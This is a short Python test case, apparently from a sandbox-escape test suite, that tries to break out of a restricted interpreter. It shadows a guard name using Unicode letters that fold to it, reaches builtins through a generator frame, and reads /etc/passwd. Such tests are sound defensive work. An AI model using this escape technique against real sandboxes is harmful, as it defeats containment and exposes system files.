# tries: a guard's name, in letters that fold to it, made global
# class: shadowing
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


def f():
    global _ｒead_
    _ｒead_ = lambda o, n: o


f()
use(pick((x for x in ()).gi_frame))
